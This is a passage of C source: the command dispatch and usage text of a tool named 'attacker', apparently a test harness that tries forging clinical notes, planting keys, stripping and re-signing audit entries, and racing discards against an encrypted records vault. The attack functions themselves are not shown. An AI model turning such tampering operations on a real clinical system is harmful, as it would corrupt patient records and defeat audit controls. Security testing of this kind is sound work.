    if (argc == 5 && !strcmp(argv[1], "unpin")) return vault_init() ? unpin(argv[2], argv[3], argv[4]) : 1;
    if (argc == 4 && !strcmp(argv[1], "strip")) {
        if (!vault_init() || !open_raw(argv[2])) return 1;
        bool ok = rewrite(atoll(argv[3]), NULL, NULL);
        sqlite3_close(raw);
        return ok ? 0 : 1;
    }
    if (argc == 6 && !strcmp(argv[1], "resign")) return resign(argv[2], argv[3], argv[4], atoll(argv[5]), NULL);
    if (argc == 7 && !strcmp(argv[1], "edit-resign")) return resign(argv[2], argv[3], argv[4], atoll(argv[5]), argv[6]);
    if (argc == 4 && !strcmp(argv[1], "plant-key")) return plant_key(argv[2], argv[3]);
    if (argc == 5 && !strcmp(argv[1], "read-notes")) return vault_init() ? read_notes(argv[2], argv[3], argv[4]) : 1;
    if ((argc == 5 || argc == 6) && !strcmp(argv[1], "legacy"))
        return vault_init() ? legacy(argv[2], argv[3], argv[4], argc == 6 && !strcmp(argv[5], "yes")) : 1;
    if (argc == 7 && !strcmp(argv[1], "forge-note"))
        return vault_init() ? forge_note(argv[2], argv[3], argv[4], argv[5], argv[6]) : 1;
    if ((argc == 5 || argc == 6) && !strcmp(argv[1], "plant-clinical"))
        return vault_init() ? plant_clinical(argv[2], argv[3], argv[4], argc == 6 && !strcmp(argv[5], "entry")) : 1;
    if (argc == 6 && !strcmp(argv[1], "plant-clinical-as")) { as_victim = argv[5];
        return vault_init() ? plant_clinical(argv[2], argv[3], argv[4], true) : 1; }
    if (argc == 8 && !strcmp(argv[1], "forge-clinical-note"))
        return vault_init() ? forge_clinical_note(argv[2], argv[3], argv[4], argv[5], argv[6], argv[7]) : 1;
    if (argc == 6 && !strcmp(argv[1], "read-intake")) return vault_init() ? read_intake(argv[2], argv[3], argv[4], argv[5]) : 1;
    if (argc == 6 && !strcmp(argv[1], "keep-clinical")) return vault_init() ? keep_clinical(argv[2], argv[3], argv[4], argv[5]) : 1;
    if (argc == 6 && !strcmp(argv[1], "plant-kept")) return vault_init() ? plant_kept(argv[2], argv[3], argv[4], argv[5]) : 1;
    if (argc == 8 && !strcmp(argv[1], "kdf-entry"))
        return vault_init() ? kdf_entry(argv[2], argv[3], argv[4], argv[5], argv[6], argv[7]) : 1;
    if (argc == 5 && !strcmp(argv[1], "desk-cut")) return vault_init() ? desk_cut(argv[2], argv[3], argv[4]) : 1;
    if (argc == 7 && !strcmp(argv[1], "swap-note")) return vault_init() ? swap_note(argv[2], argv[3], argv[4], argv[5], argv[6]) : 1;
    if (argc == 5 && !strcmp(argv[1], "discard-race")) return vault_init() ? discard_race(argv[2], argv[3], argv[4]) : 1;
    if (argc == 5 && !strcmp(argv[1], "desk-cut-held")) return vault_init() ? desk_cut_held(argv[2], argv[3], argv[4]) : 1;
    if (argc == 8 && !strcmp(argv[1], "append-signed"))
        return vault_init() ? append_signed(argv[2], argv[3], argv[4], argv[5], argv[6], argv[7]) : 1;
    if (argc == 6 && !strcmp(argv[1], "remac-client")) return vault_init() ? remac_client(argv[2], argv[3], argv[4], argv[5]) : 1;
    if (argc == 5 && !strcmp(argv[1], "keyless-lock")) return vault_init() ? keyless_lock(argv[2], argv[3], argv[4]) : 1;
    fprintf(stderr, "usage: attacker keep-clinical CONFIG DB USER OUT | plant-kept CONFIG DB USER KEPT | "
                    "kdf-entry CONFIG DB USER VICTIM OPS MEM | keyless-lock CONFIG DB VICTIM | "
                    "append-signed CONFIG DB USER ACTION OBJECT DETAIL | desk-cut CONFIG DB USER | desk-cut-held CONFIG DB USER | forge-clinical-note CONFIG DB USER INTAKE TEXT unsigned|self|as-author | "
                    "read-intake CONFIG DB USER INTAKE | peak-rss OUT COMMAND... | plant-clinical CONFIG DB USER [entry] | strip DB SEQ | resign CONFIG DB USER SEQ | legacy CONFIG DB USER [yes] | "
                    "plant-key DB NAME | read-notes CONFIG DB USER | forge-note CONFIG DB USER INTAKE TEXT\n");
    return 2;
}
